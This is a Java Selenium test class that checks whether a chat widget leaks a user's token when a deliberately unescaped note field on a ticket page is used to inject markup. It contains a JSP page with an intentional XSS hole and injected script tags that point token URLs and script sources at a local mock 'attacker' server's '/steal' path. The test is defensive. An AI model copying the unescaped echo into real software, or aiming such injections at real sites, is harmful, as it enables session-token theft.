package com.smsbat.chathub.taglib;

import com.smsbat.chathub.sandbox.ChatHubSandbox;
import com.smsbat.chathub.testing.Browser;
import com.smsbat.chathub.testing.Closing;
import com.smsbat.chathub.testing.TestContainer;
import com.sun.net.httpserver.HttpServer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.support.ui.WebDriverWait;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.BooleanSupplier;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * A back-office page that echoes a stored note unescaped, under the strict CSP docs/renewal.md recommends
 * ({@code script-src 'nonce-…' 'strict-dynamic'}), in Chromium against the container of this run: whatever
 * markup the note plants, the browser module sends no request to an "attacker" server on 127.0.0.1 and puts the
 * user's token on no element but the real panel. A script the test adds to every document before the page's own
 * records each element that ever carries a {@code token} attribute and each script element inserted by a script
 * rather than the parser, so that a token that came and went, or a script inserted and blocked, still counts.
 */
class HostilePageContainerTest {

    private static final String NONCE = "r4nd0m-n0nce";
    private static final String PANEL = "operator-chat-panel-script";
    private static final String PLANTED_TOKEN = "e30.planted.c2ln";
    private static final Duration PATIENCE = Duration.ofSeconds(40);
    private static final String PAGE = ChatHubApps.PAGE_DIRECTIVE + ChatHubApps.TAGLIB + """
            <% response.setHeader("Content-Security-Policy",
                    "script-src 'nonce-NONCE' 'strict-dynamic'; object-src 'none'; base-uri 'none'"); %>\
            <!DOCTYPE html><html><head><title>Ticket</title><link rel="icon" href="data:,"></head><body>
            <main><h1>Ticket 4711</h1><div class="note"><%= request.getParameter("note") %></div></main>
            <chathub:widget nonce="NONCE"><p class="fallback">Chat is unavailable</p></chathub:widget>
            </body></html>
            """.replace("NONCE", NONCE);
    private static final String RECORDER = """
            window.tokenBearers = [];
            window.scriptsSeen = new Set();
            window.scriptsParsed = new Set();
            const record = (element) => {
              if (element.hasAttribute('token')) {
                window.tokenBearers.push([element.id, element.getAttribute('src'), element.getAttribute('token')]);
              }
              if (element.localName === 'script') {
                window.scriptsSeen.add(element);
              }
            };
            new MutationObserver((changes) => changes.forEach((change) => {
              if (change.type === 'attributes') {
                record(change.target);
              } else {
                change.addedNodes.forEach((node) => node.nodeType === 1
                    && [node, ...node.querySelectorAll('*')].forEach(record));
              }
            })).observe(document, { subtree: true, childList: true, attributes: true, attributeFilter: ['token'] });
            // What the parser put there, before any deferred or module script runs.
            document.addEventListener('readystatechange', () => document.readyState === 'interactive'
                && document.querySelectorAll('script').forEach((script) => window.scriptsParsed.add(script)));
            window.scriptsInserted = () => [...window.scriptsSeen].filter((script) => !window.scriptsParsed.has(script))
                .map((script) => script.getAttribute('src'));
            """;

    private static ChatHubSandbox sandbox;
    private static TestContainer container;
    private static Browser browser;
    private HttpServer attacker;
    private final AtomicInteger attackerRequests = new AtomicInteger();
    private String attackerOrigin;

    @BeforeAll
    static void start() {
        Browser.assumeAvailable();
        sandbox = ChatHubSandbox.start();
        Map<String, String> settings = ChatHubApps.sandboxSettings(sandbox);
        settings.put("chathub.user.session-attribute", "user");
        settings.put("chathub.renewal.check", "PT1S");
        // Tokens renewed in the page about 15 s after they were issued.
        settings.put("chathub.token.lifetime", "PT20S");
        settings.put("chathub.token.refresh-ahead", "PT10S");
        container = TestContainer.start(ChatHubApps.app(settings,
                ChatHubApps.SESSION_LOGIN + RequestLog.mappedTo("hits", FormLoginApp.ENDPOINT)).file("ticket.jsp", PAGE));
        browser = Browser.start();
        browser.driver().executeCdpCommand("Page.addScriptToEvaluateOnNewDocument", Map.of("source", RECORDER));
    }

    @AfterAll
    static void stop() {
        Closing.closeAll(browser, container, sandbox);
    }

    @BeforeEach
    void startAttackerAndSignIn() throws IOException {
        attacker = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        attacker.createContext("/", exchange -> {
            attackerRequests.incrementAndGet();
            byte[] body = "document.documentElement.dataset.pwned = 'yes';".getBytes(StandardCharsets.UTF_8);
            exchange.getResponseHeaders().set("Content-Type", "text/javascript");
            exchange.getResponseHeaders().set("Access-Control-Allow-Origin", "*");
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        attacker.start();
        attackerOrigin = "http://127.0.0.1:" + attacker.getAddress().getPort();
        browser.driver().executeCdpCommand("Network.clearBrowserCookies", Map.of());
        browser.open(container.uri("/login?user=john"));
    }

    @AfterEach
    void stopAttacker() {
        attacker.stop(0);
    }

    @Test
    void plantedLookAlikeWithAForeignSourceGetsNoTokenAndLoadsNothing() {
        openWithNote("<script id=\"" + PANEL + "-9\" type=\"module\" src=\"" + attackerOrigin + "/a.js\" token=\""
                + PLANTED_TOKEN + "\" data-chathub-token-url=\"" + container.uri("/api/chathub/token").getPath()
                + "\" data-chathub-expires-at=\"2000-01-01T00:00:00Z\" data-chathub-check=\"PT1S\"></script>");

        awaitEndpointHits(3);

        assertNothingLeaked();
    }

    @Test
    void plantedLookAlikeWithTheRealWidgetButAForeignTokenUrlSendsNothingThere() {
        openWithNote("<script id=\"" + PANEL + "-9\" type=\"module\" src=\"" + sandbox.widgetScriptUri() + "\" token=\""
                + PLANTED_TOKEN + "\" data-chathub-token-url=\"" + attackerOrigin + "/steal\""
                + " data-chathub-expires-at=\"2000-01-01T00:00:00Z\" data-chathub-check=\"PT1S\"></script>");

        awaitEndpointHits(3);

        assertNothingLeaked();
    }

    @Test
    void plantedFallbackTemplateIsNotWhatASignOutShows() {
        openWithNote("<template data-chathub-fallback-for=\"" + PANEL + "\"><p class=\"planted\">Call 0900</p>"
                + "<script src=\"" + attackerOrigin + "/c.js\"></script></template>");

        browser.driver().executeAsyncScript("fetch(arguments[0], {credentials: 'same-origin'}).then(arguments[1])",
                container.uri("/logout").toString());
        await(() -> !browser.driver().findElements(By.cssSelector("p.fallback")).isEmpty()
                || !browser.driver().findElements(By.cssSelector("p.planted")).isEmpty());

        assertAll(
                () -> assertTrue(browser.driver().findElement(By.cssSelector("p.fallback")).isDisplayed()),
                () -> assertTrue(browser.driver().findElements(By.cssSelector("p.planted")).isEmpty(),
                        "the planted fallback is shown"),
                this::assertNothingLeaked);
    }

    @Test
    void attributesChangedOnTheRealPanelAfterLoadingSteerNoRenewal() {
        openWithNote("a note");
        browser.driver().executeScript("""
                window.renewed = false;
                document.addEventListener('chathub:renewed', () => { window.renewed = true; });
                const panel = document.getElementById(arguments[0]);
                panel.setAttribute('data-chathub-token-url', arguments[1] + '/steal');
                panel.setAttribute('src', arguments[1] + '/d.js');
                """, PANEL, attackerOrigin);

        await(() -> attackerRequests.get() > 0
                || Boolean.TRUE.equals(browser.driver().executeScript("return window.renewed")));

        assertNothingLeaked();
    }

    private void openWithNote(String note) {
        browser.open(container.uri("/ticket.jsp?note=" + URLEncoder.encode(note, StandardCharsets.UTF_8)));
        new WebDriverWait(browser.driver(), Duration.ofSeconds(15)).until(d ->
                !d.findElements(By.cssSelector("[data-chathub-panel='" + PANEL + "'][data-state='ready']")).isEmpty());
    }

    /** Waits for {@code count} more requests to the token endpoint: the module has been at work that long. */
    private static void awaitEndpointHits(int count) {
        int before = RequestLog.count(FormLoginApp.ENDPOINT);
        await(() -> RequestLog.count(FormLoginApp.ENDPOINT) >= before + count);
    }

    private static void await(BooleanSupplier condition) {
        new WebDriverWait(browser.driver(), PATIENCE).until(d -> condition.getAsBoolean());
    }

    @SuppressWarnings("unchecked")
    private void assertNothingLeaked() {
        List<List<String>> bearers = (List<List<String>>) browser.driver().executeScript("return window.tokenBearers");
        List<String> scripts = (List<String>) browser.driver().executeScript("return window.scriptsInserted()");
        String widget = sandbox.widgetScriptUri().toString();
        assertAll(
                () -> assertEquals(0, attackerRequests.get(), "requests that reached the attacker's server"),
                () -> assertEquals(List.of(), scripts.stream()
                        .filter(src -> src != null && src.startsWith(attackerOrigin)).toList(), "attacker scripts inserted"),
                () -> assertEquals(List.of(), bearers.stream()
                        .filter(bearer -> !PLANTED_TOKEN.equals(bearer.get(2)))
                        .filter(bearer -> !(PANEL.equals(bearer.get(0)) && widget.equals(bearer.get(1))))
                        .toList(), "elements other than the real panel that carried the user's token"),
                () -> assertTrue(bearers.stream().anyMatch(bearer -> PANEL.equals(bearer.get(0))),
                        "the real panel was seen: " + bearers));
    }
}
